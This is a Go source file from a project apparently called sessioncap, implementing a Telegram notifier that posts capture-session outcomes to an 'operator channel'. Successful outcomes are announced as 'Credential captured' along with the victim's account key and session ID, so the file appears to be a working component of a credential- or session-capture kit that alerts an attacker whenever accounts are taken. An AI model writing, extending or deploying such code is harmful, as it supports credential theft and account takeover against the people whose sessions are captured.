// Package notify sends capture session outcomes to an operator channel.
package notify

import (
	"context"
	"fmt"
	"html"
	"strings"
	"time"

	tgbotapi "github.com/go-telegram-bot-api/telegram-bot-api/v5"

	"github.com/sessioncap/sessioncap/internal/config"
	"github.com/sessioncap/sessioncap/internal/logging"
)

// Outcome is the non-secret summary of one finished session.
type Outcome struct {
	SessionID  string
	AccountKey string
	Success    bool
	State      string
	Reason     string
	Duration   time.Duration
}

// Notifier delivers outcomes. Implementations must not block the caller for long.
type Notifier interface {
	Notify(ctx context.Context, o Outcome) error
}

// Nop discards outcomes.
type Nop struct{}

func (Nop) Notify(context.Context, Outcome) error { return nil }

// Sender sends one HTML message to a chat.
type Sender interface {
	SendHTML(chatID int64, text string) error
}

// Telegram posts outcomes to a chat.
type Telegram struct {
	sender Sender
	chatID int64
	logger *logging.Logger
}

// New returns a Telegram notifier when enabled in cfg, otherwise Nop.
func New(cfg config.TelegramConfig, logger *logging.Logger) (Notifier, error) {
	if !cfg.Enabled {
		return Nop{}, nil
	}
	sender, err := NewBotSender(cfg.BotToken)
	if err != nil {
		return nil, fmt.Errorf("telegram: %w", err)
	}
	return NewTelegram(sender, cfg.ChatID, logger), nil
}

// NewTelegram wires a notifier over an existing sender.
func NewTelegram(sender Sender, chatID int64, logger *logging.Logger) *Telegram {
	return &Telegram{sender: sender, chatID: chatID, logger: logger}
}

func (t *Telegram) Notify(ctx context.Context, o Outcome) error {
	if err := ctx.Err(); err != nil {
		return err
	}
	if err := t.sender.SendHTML(t.chatID, FormatOutcome(o)); err != nil {
		if t.logger != nil {
			t.logger.Warn("telegram notification failed", "session_id", o.SessionID, "error", err.Error())
		}
		return err
	}
	return nil
}

// FormatOutcome renders an outcome as Telegram HTML.
func FormatOutcome(o Outcome) string {
	emoji := "🟢"
	title := "Credential captured"
	if !o.Success {
		emoji = "🔴"
		title = "Capture failed"
	}
	account := o.AccountKey
	if account == "" {
		account = "unknown"
	}

	var sb strings.Builder
	sb.WriteString(fmt.Sprintf("%s <b>%s</b>\n\n", emoji, title))
	sb.WriteString(fmt.Sprintf("👤 <b>Account:</b> <code>%s</code>\n", html.EscapeString(account)))
	sb.WriteString(fmt.Sprintf("🔁 <b>State:</b> %s\n", html.EscapeString(o.State)))
	if o.Reason != "" {
		sb.WriteString(fmt.Sprintf("💬 <b>Reason:</b> %s\n", html.EscapeString(o.Reason)))
	}
	sb.WriteString(fmt.Sprintf("⏱ <b>Duration:</b> %s\n", o.Duration.Round(time.Millisecond)))
	sb.WriteString(fmt.Sprintf("🆔 <code>%s</code>", html.EscapeString(o.SessionID)))
	return sb.String()
}

// BotSender adapts tgbotapi.BotAPI to Sender.
type BotSender struct {
	bot *tgbotapi.BotAPI
}

// NewBotSender authenticates with token.
func NewBotSender(token string) (*BotSender, error) {
	token = strings.TrimSpace(token)
	if token == "" {
		return nil, fmt.Errorf("bot token is empty")
	}
	bot, err := tgbotapi.NewBotAPI(token)
	if err != nil {
		return nil, err
	}
	return &BotSender{bot: bot}, nil
}

func (s *BotSender) SendHTML(chatID int64, text string) error {
	msg := tgbotapi.NewMessage(chatID, text)
	msg.ParseMode = tgbotapi.ModeHTML
	_, err := s.bot.Send(msg)
	return err
}
